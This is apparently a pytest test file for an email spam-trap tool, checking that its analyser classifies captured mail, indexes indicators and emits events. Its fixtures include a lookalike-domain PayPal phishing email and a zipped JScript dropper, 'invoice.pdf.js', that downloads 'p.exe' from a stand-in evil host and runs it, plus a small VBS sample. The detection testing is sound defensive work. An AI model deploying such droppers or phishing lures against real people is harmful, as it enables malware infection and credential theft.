"""Analysis end to end: `analyze` offline, the worker on the store's queue, reports, indicators,
re-analysis, and `serve` analysing what it captured (its event announces the report)."""

import io
import json
import queue
import smtplib
import zipfile
from email.message import EmailMessage

import pytest

from conftest import sha256

VERDICTS = {"spam", "phishing", "malware", "ransomware-delivery", "scam", "benign", "unknown"}

PHISH = (b"From: \"PayPal Service\" <service@paypa1-secure.example>\r\n"
         b"To: victim@trap.example\r\nSubject: Your account 48213 is limited\r\n"
         b"Message-ID: <p1@paypa1-secure.example>\r\nDate: Thu, 03 Dec 2026 10:00:00 +0000\r\n"
         b"Content-Type: text/html; charset=utf-8\r\n\r\n"
         b"<p>Verify your account now: <a href=\"http://login.paypa1-secure.example/verify\">"
         b"https://www.paypal.com/signin</a></p>\r\n")


def dropper_mail():
    """A zipped JS dropper with the archive password in the body."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("invoice.pdf.js",
                   "var s = new ActiveXObject('WScript.Shell');\n"
                   "var x = new ActiveXObject('MSXML2.XMLHTTP');\n"
                   "x.open('GET', 'http://dl.evil.example/p.exe', false);\n"
                   "s.Run('cmd /c start p.exe');\n")
    m = EmailMessage()
    m["From"] = "billing@invoices.example"
    m["To"] = "victim@trap.example"
    m["Subject"] = "Invoice 20261203"
    m.set_content("Please find the invoice attached.\n")
    m.add_attachment(buf.getvalue(), maintype="application", subtype="zip", filename="invoice.zip")
    return m.as_bytes().replace(b"\n", b"\r\n")


def write(tmp_path, name, data):
    p = tmp_path / name
    p.write_bytes(data)
    return p


def run_analyze(trap, *args):
    out = trap.cli("analyze", *map(str, args), timeout=120)
    assert out.returncode == 0, out.stderr.decode(errors="replace")
    return [json.loads(l) for l in out.stdout.splitlines() if l.strip()], out.stderr.decode()


def test_analyze_prints_one_report_per_file_in_argument_order(trap_factory, tmp_path):
    trap = trap_factory()
    files = [write(tmp_path, "b-phish.eml", PHISH), write(tmp_path, "a-drop.eml", dropper_mail()),
             write(tmp_path, "c-empty.eml", b"")]
    reports, _ = run_analyze(trap, *files)
    assert [r["file"] for r in reports] == [str(f) for f in files]
    for r, f in zip(reports, files):
        assert r["message_id"] == sha256(f.read_bytes())
        assert r["verdict"]["class"] in VERDICTS
        assert isinstance(r["verdict"]["score"], int)
    phish, drop, empty = reports
    assert phish["verdict"]["class"] == "phishing", phish["verdict"]
    assert any(u["host"] == "login.paypa1-secure.example" for u in phish["urls"])
    assert drop["verdict"]["class"] == "malware", drop["verdict"]
    js = [a for a in drop["artifacts"] if a["path"].endswith("invoice.pdf.js")]
    assert js and js[0]["kind"] == "script-js" and "double-extension" in js[0]["name_tricks"]
    assert empty["verdict"]["class"] == "unknown" and empty["anomalies"]


def test_analyze_summary_counts_and_unreadable_files(trap_factory, tmp_path):
    trap = trap_factory()
    good = write(tmp_path, "one.eml", PHISH)
    out = trap.cli("analyze", "--summary", "--quiet", str(good), str(tmp_path / "missing.eml"))
    assert out.returncode == 1  # the missing file is an error, named on stderr
    assert out.stdout == b""
    err = out.stderr.decode()
    assert "missing.eml" in err
    summary = json.loads(err[err.index("{"):])
    assert summary["reports"] == 1 and summary["unreadable"] == 1
    assert summary["verdicts"] == {"phishing": 1}
    assert summary["urls"] >= 1


def test_analyze_object_treats_the_file_as_a_sample(trap_factory, tmp_path):
    trap = trap_factory()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("run.vbs", "CreateObject(\"WScript.Shell\").Run \"calc\"\n")
    sample = write(tmp_path, "sample.zip", buf.getvalue())
    [r], _ = run_analyze(trap, "--object", sample)
    assert r["artifacts"][0]["kind"] == "zip"
    assert r["artifacts"][0]["hashes"]["sha256"] == sha256(buf.getvalue())
    assert [a["kind"] for a in r["artifacts"][1:]] == ["script-vbs"]


def send(trap, raw, rcpt="victim@trap.example"):
    with smtplib.SMTP(trap.host, trap.port, timeout=10) as s:
        s.ehlo("bot.example")
        s.sendmail("bounce@src.example", [rcpt], raw)


def test_worker_until_idle_analyses_captures_and_indexes_indicators(trap_factory):
    trap = trap_factory(extra_args=[])
    trap.config_text = "[analysis]\nworkers = 0\n[analysis.auth]\nenabled = false\n"
    trap.start()
    send(trap, PHISH)
    send(trap, dropper_mail())
    trap.stop()
    out = trap.cli("worker", "--until-idle")
    assert out.returncode == 0, out.stderr.decode(errors="replace")
    assert "analysed 2 messages" in out.stderr.decode()
    [m] = [m for m in trap.messages() if m["id"] == sha256(PHISH)]
    rep = trap.cli("messages", "report", m["sighting"])
    assert rep.returncode == 0, rep.stderr.decode()
    report = json.loads(rep.stdout)
    assert report["verdict"]["class"] == "phishing"
    assert report["trap_addresses"] == ["victim@trap.example"]
    # Indicators: the phishing domain with its sighting; never the trap address.
    show = trap.cli("indicators", "show", "domain", "login.paypa1-secure.example")
    assert show.returncode == 0, show.stderr.decode()
    ind = json.loads(show.stdout)
    assert ind["count"] == 1 and ind["sightings"] == [m["sighting"]]
    emails = trap.cli("indicators", "list", "--kind", "email")
    assert b"victim@trap.example" not in emails.stdout
    assert b"service@paypa1-secure.example" in emails.stdout
    # Re-analysis queues both again and keeps the counts exact.
    again = trap.cli("reanalyze")
    assert again.returncode == 0, again.stderr.decode()
    assert "queued 2 messages" in again.stderr.decode()
    assert json.loads(trap.cli("indicators", "show", "domain",
                               "login.paypa1-secure.example").stdout)["count"] == 1
    assert trap.cli("worker", "--until-idle").stderr.decode().count("analysed 0 messages") == 1


def test_serve_analyses_what_it_captures_and_announces_it(trap_factory):
    trap = trap_factory()
    trap.config_text = 'event_log = "-"\n[analysis]\nworkers = 1\n[analysis.auth]\nenabled = false\n'
    trap.start()
    send(trap, dropper_mail())
    deadline_lines = 200
    for _ in range(deadline_lines):
        try:
            line = trap.lines.get(timeout=30)
        except queue.Empty:
            pytest.fail("no spamhattan.message.analyzed event within 30 s\n" + trap.stderr_tail())
        assert line is not None, "serve exited\n" + trap.stderr_tail()
        event = json.loads(line)
        if event.get("eventid") == "spamhattan.message.analyzed":
            assert event["class"] == "malware", event
            assert "script-attachment" in event["rules"]
            break
    else:
        pytest.fail("no analyzed event among the first events")
    assert trap.stop() == 0
